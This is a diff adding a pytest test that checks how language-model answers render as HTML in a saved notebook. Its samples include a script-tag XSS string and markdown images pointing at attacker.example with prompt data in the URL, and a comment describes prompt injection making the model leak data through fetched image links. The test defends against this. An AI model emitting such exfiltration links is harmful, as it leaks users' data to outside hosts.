@@ -39,3 +39,16 @@ def test_a_finished_answer_is_markdown_and_its_html_stays_text() -> None:
     shown = _field_html("answer", "A **bold** claim <script>alert(1)</script>\n\n```python\nprint(1)\n```")
     assert "<strong>bold</strong>" in shown and '<pre><code class="language-python">print(1)' in shown
     assert "<script>" not in shown and "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
+
+
+
+@pytest.mark.parametrize("text, link", [
+    ("see ![chart](https://attacker.example/c.png?d=the+prompt)", "https://attacker.example/c.png?d=the+prompt"),
+    ("![chart][ref]\n\n[ref]: https://attacker.example/c.png?d=the+prompt", "https://attacker.example/c.png?d=the+prompt"),
+    ("![chart](data:image/png;base64,iVBORw0KGgo=)", "data:image/png;base64,iVBORw0KGgo="),
+])
+def test_an_image_in_an_answer_is_a_link_never_fetched(text: str, link: str) -> None:
+    # a saved notebook's HTML is shown by every browser that opens it: an <img> would be fetched there, carrying in
+    # its URL what a prompt injection had the LM put in it
+    shown = _field_html("answer", text)
+    assert "<img" not in shown and f'<a href="{link}">chart</a>' in shown
